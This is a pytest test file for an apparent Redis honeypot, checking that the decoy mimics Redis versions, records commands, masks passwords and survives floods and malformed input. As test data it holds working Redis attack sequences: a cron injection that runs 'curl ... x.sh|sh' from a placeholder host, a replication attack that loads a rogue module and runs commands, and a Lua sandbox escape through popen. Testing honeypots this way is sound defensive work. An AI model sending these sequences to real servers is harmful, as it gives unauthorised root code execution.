# SPDX-License-Identifier: MIT
"""The redis lure: evidence of what attackers do, and bounds."""

import asyncio

import pytest

from decnet.lures.redis.recorder import MAX_RECORDS
from tests.lures.redis.cache import cache, packed
from tests.support.lures import Served, ask, serving

CRON = b"\n\n* * * * * curl -fsSL http://203.0.113.9/x.sh|sh\n\n"


def commands(served: Served) -> list[str]:
    """Return the recorded commands."""
    return [body.command for body in served.pen.bodies("command")]


def shown(served: Served) -> str:
    """Return everything that lies in clear."""
    return repr([body for _, body, _ in served.pen.records]) + repr(served.pen.blobs)


@pytest.mark.parametrize("version", ["6.0.16", "7.0.15"])
async def test_cron_attack_goes_on_and_its_file_is_captured(version: str) -> None:
    async with serving(cache(version)) as served:
        wire = [
            ("FLUSHALL",),
            ("SET", "x", CRON),
            ("CONFIG", "SET", "dir", "/var/spool/cron"),
            ("CONFIG", "SET", "dbfilename", "root"),
        ]
        for step in [*wire, ("SAVE",)]:
            assert await ask(served, packed(*step)) == b"+OK\r\n"
    file = served.pen.bodies("file")[0]
    assert (file.path, file.direction) == ("/var/spool/cron/root", "upload")
    assert served.pen.blobs[file.sha256] == CRON
    download = served.pen.bodies("download")[0]
    assert (download.url, download.tool) == ("http://203.0.113.9/x.sh", "curl")
    assert commands(served)[1] == r'SET x "\n\n* * * * * curl -fsSL http://203.0.113.9/x.sh|sh\n\n"'


async def test_protected_server_refuses_as_redis_7_does_by_default() -> None:
    async with serving(cache(protected=True)) as served:
        answer = await ask(
            served, packed("CONFIG", "SET", "dir", "/root/.ssh") + packed("MODULE", "LIST") + packed("DEBUG", "OBJECT", "x")
        )
    lines = answer.split(b"\r\n")
    assert lines[0] == b"-ERR CONFIG SET failed (possibly related to argument 'dir') - can't set protected config"
    assert lines[1].startswith(b"-ERR MODULE command not allowed. If the enable-module-command option")
    assert lines[2].startswith(b"-ERR DEBUG command not allowed. If the enable-debug-command option")


async def test_replication_attack_goes_on_and_the_master_is_recorded() -> None:
    wire = (
        packed("CONFIG", "SET", "dbfilename", "exp.so")
        + packed("SLAVEOF", "203.0.113.9", "21000")
        + packed("INFO", "replication")
    )
    wire += (
        packed("MODULE", "LOAD", "./exp.so")
        + packed("SLAVEOF", "NO", "ONE")
        + packed("system.exec", "id")
        + packed("MODULE", "UNLOAD", "system")
    )
    async with serving(cache("6.0.16")) as served:
        answer = await ask(served, wire)
    assert b"role:slave\r\nmaster_host:203.0.113.9\r\nmaster_port:21000\r\n" in answer
    assert b"uid=0(root)" in answer
    assert b"-" not in [line[:1] for line in answer.split(b"\r\n")]
    assert [body.url for body in served.pen.bodies("download")] == ["redis://203.0.113.9:21000", "./exp.so"]


async def test_lua_escape_answers_on_the_version_that_has_it() -> None:
    script = (
        'local l = package.loadlib("/usr/lib/liblua5.1.so.0", "luaopen_io"); local f = l().popen("id"); return f:read("*a")'
    )
    async with serving(cache("6.0.16")) as old, serving(cache("7.0.15")) as new:
        assert b"uid=0(root)" in await ask(old, packed("EVAL", script, "0"))
        assert b"nonexistent global variable 'package'" in await ask(new, packed("EVAL", script, "0"))
    assert "id" in commands(old)


async def test_password_is_asked_for_and_recorded_beside_the_body() -> None:
    wire = (
        packed("GET", "a")
        + packed("AUTH", "wrong-pw]")
        + packed("AUTH", "default", "wrong-two")
        + packed("AUTH", "letmein")
        + packed("PING")
    )
    async with serving(cache(password="letmein")) as served:
        answer = await ask(served, wire)
    assert answer.split(b"\r\n")[:-1] == [
        b"-NOAUTH Authentication required.",
        b"-WRONGPASS invalid username-password pair or user is disabled.",
        b"-WRONGPASS invalid username-password pair or user is disabled.",
        b"+OK",
        b"+PONG",
    ]
    assert [body.accepted for body in served.pen.bodies("credential")] == [False, False, True]
    assert served.pen.secrets() == [b"wrong-pw]", b"wrong-two", b"letmein"]
    assert commands(served)[1:4] == ["AUTH [secret]", "AUTH default [secret]", "AUTH [secret]"]
    assert "wrong" not in shown(served)


@pytest.mark.parametrize(
    ("command", "recorded"),
    [
        (("CONFIG", "SET", "requirepass", "hunter2"), "CONFIG SET requirepass [secret]"),
        (("config", "set", "MasterAuth", "hunter2"), "config set MasterAuth [secret]"),
        (("ACL", "SETUSER", "eve", "on", ">hunter2", "~*", "+@all"), "ACL SETUSER eve on [secret] ~* +@all"),
        (("HELLO", "3", "AUTH", "eve", "hunter2"), "HELLO 3 AUTH eve [secret]"),
        (("AUTH", "hunter2"), "AUTH [secret]"),
        (("MIGRATE", "h", "1", "k", "0", "9", "AUTH", "hunter2"), "MIGRATE h 1 k 0 9 AUTH [secret]"),
    ],
)
async def test_secret_of_a_command_is_a_credential_and_nowhere_else(command: tuple[str, ...], recorded: str) -> None:
    async with serving(cache()) as served:
        await ask(served, packed(*command))
    assert commands(served) == [recorded]
    assert served.pen.secrets() == [b"hunter2"]
    assert "hunter2" not in shown(served)


@pytest.mark.parametrize(
    ("wire", "secrets"),
    [
        (b"*2\r\n$4\r\nAUTH\r\n$zz\r\nhunter2\r\n", [b"hunter2\r\n"]),
        (b'AUTH "hunter2\r\n', [b'AUTH "hunter2\r\n']),
        (packed("MULTI") + packed("AUTH", "eve", "hunter2") + packed("DISCARD"), [b"hunter2"]),
        (packed("MULTI") + packed("AUTH", "eve", "hunter2"), [b"hunter2"]),
        (packed("AUTH", "hunter2")[:-4], [b"AUTH hunte"]),
        (packed("AUTH", "eve", "hunter2", "y"), [b"hunter2 y"]),
        (packed("HELLO", "4", "AUTH", "eve", "hunter2"), [b"hunter2"]),
        (packed("ACL", "SETUSER", "eve", "+nosuch", ">hunter2"), [b"hunter2"]),
        (packed("MIGRATE", "h", "1", "k", "0", "9", "AUTH2", "eve", "hunter2"), [b"hunter2"]),
        (b"Authorization: Basic hunter2\r\n", [b"Basic hunter2"]),
        (packed("HELLO", "3", "AUTH", "hunter2"), [b"hunter2"]),
        (packed("HELLO", "3", "JUNK", "AUTH", "eve", "hunter2"), [b"hunter2"]),
        (packed("AUTH ", "hunter2"), [b"hunter2"]),
        (packed("AUTH hunter2"), [b"AUTH hunter2"]),
        (packed("ACL", "SETUSER", "eve", "(>hunter2)"), [b"hunter2)"]),
        (packed("MULTI") + packed("AUTH", "eve", "hunter2") + packed("EXEC"), [b"hunter2"]),
        (packed("MULTI") + packed("CONFIG", "SET", "requirepass", "hunter2") + packed("EXEC"), [b"hunter2"]),
    ],
)
async def test_secret_of_a_failing_command_is_not_lost_and_not_shown(wire: bytes, secrets: list[bytes]) -> None:
    async with serving(cache()) as served:
        await ask(served, wire)
    assert served.pen.secrets() == secrets
    assert "hunter2" not in shown(served)


@pytest.mark.parametrize(
    "wire",
    [
        packed("HELLO", "3", "AUTH", "eve", "hunter2"),
        b"hello 3 auth eve hunter2\r\n",
        packed("ACL", "SETUSER", "eve", ">hunter2"),
    ],
)
async def test_secret_of_a_command_that_the_version_does_not_know_is_kept_once(wire: bytes) -> None:
    """A redis before 6.0 has neither HELLO nor ACL; who tries them shows a password all the same."""
    async with serving(cache(version="5.0.14")) as served:
        await ask(served, wire)
    assert served.pen.secrets() == [b"hunter2"]
    assert "hunter2" not in shown(served)


async def test_flood_after_the_memory_is_full_is_refused_cheaply_until_it_is_emptied() -> None:
    full = b"".join(packed("SET", f"k{index}", b"x" * 1_000_000) for index in range(5))
    async with serving(cache()) as served:
        answer = await ask(served, full + packed("SET", "a", "b" * 100) * 100 + packed("FLUSHALL") + packed("SET", "a", "b"))
    assert answer.count(b"-OOM") >= 1
    assert answer.endswith(b"+OK\r\n+OK\r\n")


async def test_planted_user_of_the_access_list_comes_in() -> None:
    async with serving(cache(password="x", users=("app:s3cret",))) as served:
        answer = await ask(served, packed("HELLO", "2", "AUTH", "app", "s3cret") + packed("ACL", "WHOAMI"))
    assert answer.endswith(b"$3\r\napp\r\n")
    assert served.pen.bodies("credential")[0].accepted


async def test_command_is_recorded_exactly_whatever_its_bytes() -> None:
    async with serving(cache()) as served:
        await ask(served, packed("SET", b"k\x00\xff]", b'%0A\r\n\xc3\xa9"'))
    assert commands(served) == [r'SET "k\x00\xff]" "%0A\r\n\xc3\xa9\""']


@pytest.mark.parametrize(
    ("wire", "reply"),
    [
        (b"*1\r\n$-5\r\n", b"-ERR Protocol error: invalid bulk length\r\n"),
        (b"*1\r\n$536870913\r\n", b"-ERR Protocol error: invalid bulk length\r\n"),
        (b"*x\r\n", b"-ERR Protocol error: invalid multibulk length\r\n"),
        (b"*99999999\r\n", b"-ERR Protocol error: invalid multibulk length\r\n"),
        (b"*1\r\nPING\r\n", b"-ERR Protocol error: expected '$', got 'P'\r\n"),
        (b'set "a\r\n', b"-ERR Protocol error: unbalanced quotes in request\r\n"),
        (b"a" * 70_000, b"-ERR Protocol error: too big inline request\r\n"),
        (b"*" + b"1" * 70_000, b"-ERR Protocol error: too big mbulk count string\r\n"),
    ],
)
async def test_broken_protocol_is_answered_closed_and_recorded(wire: bytes, reply: bytes) -> None:
    async with serving(cache()) as served:
        assert await ask(served, wire) == reply
    assert served.pen.bodies("violation")[0].reason == reply.decode()[5:-2]
    assert served.pen.ended[0].reason == "protocol"


async def test_client_that_did_not_log_in_is_held_to_small_requests() -> None:
    async with serving(cache(password="x")) as served:
        assert await ask(served, b"*11\r\n") == b"-ERR Protocol error: unauthenticated multibulk length\r\n"
        assert await ask(served, b"*1\r\n$20000\r\n") == b"-ERR Protocol error: unauthenticated bulk length\r\n"


async def test_http_request_is_closed_without_an_answer_to_its_host() -> None:
    async with serving(cache()) as served:
        answer = await ask(served, b"GET / HTTP/1.1\r\nHost: x\r\nUser-Agent: y\r\n\r\n")
    assert answer == b"-ERR wrong number of arguments for 'get' command\r\n"
    assert served.pen.bodies("violation")[0].reason == "HTTP request"
    assert commands(served) == ["GET / HTTP/1.1", "Host: x"]


async def test_requests_in_single_bytes_are_answered() -> None:
    wire = packed("SET", "a", "b") + b"GET a\r\n" + packed("QUIT")
    async with serving(cache()) as served:
        assert await ask(served, *[wire[index : index + 1] for index in range(len(wire))]) == b"+OK\r\n$1\r\nb\r\n+OK\r\n"


async def test_flood_is_counted_and_its_credentials_are_all_kept() -> None:
    flood = (
        b"".join(packed("SET", f"k{index}", "v") for index in range(3000)) + packed("AUTH", "guess") * 50 + packed("PING") * 500
    )
    async with serving(cache()) as served:
        await ask(served, flood)
    bodies = served.pen.bodies("command")
    assert MAX_RECORDS <= len(bodies) < MAX_RECORDS + 10
    counted = {body.command: int(body.detail["count"]) for body in bodies if "count" in body.detail}
    assert counted == {"set": 3000 - MAX_RECORDS, "auth": 50, "ping": 500}
    assert served.pen.secrets() == [b"guess"] * 50


async def test_repeated_command_is_counted() -> None:
    async with serving(cache()) as served:
        await ask(served, packed("PING") * 100 + packed("DBSIZE"))
    assert [(body.command, body.detail.get("repeated")) for body in served.pen.bodies("command")] == [
        ("PING", None), ("PING", None), ("PING", None), ("PING", "97"), ("DBSIZE", None),
    ]  # fmt: skip


async def test_large_value_is_kept_as_a_blob_and_memory_is_bounded() -> None:
    big = b"\x7fELF" + b"x" * 1_000_000
    async with serving(cache()) as served:
        answer = await ask(served, b"".join(packed("SET", f"k{index}", big) for index in range(8)))
    assert answer.count(b"+OK") == 4
    assert answer.count(b"-OOM command not allowed") == 4
    assert big in served.pen.blobs.values()
    assert "sha256" in served.pen.bodies("command")[0].detail["argument 2"]


async def test_silent_client_is_ended_and_endless_one_too() -> None:
    async with serving(cache(), idle_seconds=0.05) as served:
        reader, writer = await asyncio.open_connection(served.host, served.port)
        assert await asyncio.wait_for(reader.read(), 10) == b""
        writer.close()
        await served.session_ended()
    async with serving(cache(), byte_limit=200_000, idle_seconds=5) as served:
        reader, writer = await asyncio.open_connection(served.host, served.port)
        writer.write(b"*2\r\n$4\r\nECHO\r\n$300000000\r\n" + b"x" * 1_000_000)
        await asyncio.wait_for(reader.read(), 10)
        writer.transport.abort()
        await served.session_ended()
    assert served.pen.ended[0].reason == "bytes"


async def test_message_to_a_listener_that_is_leaving_harms_nobody() -> None:
    async with serving(cache(), idle_seconds=5) as served:
        _, leaving = await asyncio.open_connection(served.host, served.port)
        leaving.write(packed("SUBSCRIBE", "c") + packed("QUIT"))
        await leaving.drain()
        answers = [await ask(served, packed("PUBLISH", "c", "m")) for _ in range(5)]
        leaving.close()
        await served.session_ended()
    assert {answer[:1] for answer in answers} == {b":"}


async def test_client_of_ipv6_is_listed_with_its_address() -> None:
    async with serving(cache(), host="::1") as served:
        answer = await ask(served, packed("CLIENT", "LIST"))
    assert b" addr=[::1]:" in answer
    assert b" laddr=[::1]:6379 " in answer


async def test_two_decoys_hold_different_keys_and_identities() -> None:
    lures = [cache(seed=f"seed {number}") for number in range(6)]
    keys = {frozenset(lure.world_of("192.0.2.1").keyspace.database(0).names()) for lure in lures}
    assert len(keys) == len({lure.instance.run_id for lure in lures}) == 6


async def test_worlds_are_bounded_and_separate() -> None:
    lure = cache()
    lure.world_of("192.0.2.1").keyspace.database(0).put(b"mine", b"1")
    assert b"mine" in lure.world_of("192.0.2.1").keyspace.database(0).names()
    assert b"mine" not in lure.world_of("192.0.2.2").keyspace.database(0).names()
    for number in range(200):
        lure.world_of(f"198.51.100.{number}")
    assert len(lure._worlds) <= 16


async def test_older_version_knows_neither_new_commands_nor_new_words() -> None:
    async with serving(cache("6.0.16")) as served:
        answer = await ask(
            served, packed("GETEX", "a") + packed("CONFIG", "FOO") + packed("SLAVEOF", "a", "x") + packed("AUTH", "a", "b")
        )
    assert answer.split(b"\r\n")[:-1] == [
        b"-ERR unknown command `GETEX`, with args beginning with: `a`, ",
        b"-ERR Unknown subcommand or wrong number of arguments for 'FOO'. Try CONFIG HELP.",
        b"-ERR value is not an integer or out of range",
        b"-WRONGPASS invalid username-password pair",
    ]


async def test_info_agrees_with_the_persona() -> None:
    async with serving(cache("6.0.16")) as served:
        answer = (await ask(served, packed("INFO"))).decode()
        other = (await ask(served, packed("INFO", "server"))).decode()
    assert "redis_version:6.0.16\r\n" in answer
    assert "os:Linux 5.10.0-28-amd64 x86_64\r\n" in answer
    assert "gcc_version:10.2.1\r\n" in answer
    assert "tcp_port:6379\r\n" in answer
    assert "\r\n# Keyspace\r\ndb0:keys=" in answer
    assert other.partition("run_id:")[2][:40] == answer.partition("run_id:")[2][:40]
    assert "# Memory" not in other
